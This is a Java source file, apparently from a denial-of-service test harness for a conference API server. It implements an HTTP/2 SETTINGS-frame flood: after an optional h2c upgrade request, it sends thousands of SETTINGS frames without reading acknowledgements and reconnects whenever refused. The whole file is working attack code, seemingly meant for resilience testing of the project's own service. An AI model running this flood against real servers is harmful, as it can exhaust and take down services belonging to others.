package org.conferenceapi.flood;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.time.Instant;

/**
 * HTTP/2 settings without end on one connection (RFC 9113, section 6.5): each frame wants an
 * acknowledgement, and none is read.
 *
 * @param upgrade whether the connection begins with HTTP/1.1 (RFC 7540, section 3.2), and not with
 *     HTTP/2 at once
 * @param megabytes at most
 */
record SettingsFrames(boolean upgrade, int megabytes) implements Attack {
  private static final String UPGRADE =
      "GET /v1/health/ready HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\n"
          + "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n";
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final byte[] FRAME = {0, 0, 0, 4, 0, 0, 0, 0, 0};
  private static final int FRAMES = 8_192;
  private static final int PAUSE_MILLIS = 20;

  @Override
  public String name() {
    return upgrade ? "http2-upgraded" : "http2-settings";
  }

  @Override
  public void play(TargetServer target, Instant end) throws InterruptedException {
    while (Instant.now().isBefore(end)) {
      try (SocketChannel channel = target.connect()) {
        send(channel, end);
      } catch (IOException e) {
        Thread.sleep(PAUSE_MILLIS); // refused: the attacker tries again
      }
    }
  }

  private void send(SocketChannel channel, Instant end) throws IOException, InterruptedException {
    String begin = (upgrade ? UPGRADE : "") + PREFACE;
    ByteBuffer block = ByteBuffer.wrap(begin.getBytes(ISO_8859_1));
    long rest = megabytes * 1_000_000L;
    while (Instant.now().isBefore(end)) {
      int written = rest > 0 ? channel.write(block) : 0;
      rest -= written;
      if (!block.hasRemaining()) {
        block = frames();
      } else if (written == 0) {
        Thread.sleep(PAUSE_MILLIS);
      }
    }
  }

  private static ByteBuffer frames() {
    ByteBuffer frames = ByteBuffer.allocate(FRAMES * FRAME.length);
    while (frames.hasRemaining()) {
      frames.put(FRAME);
    }
    return frames.flip();
  }
}
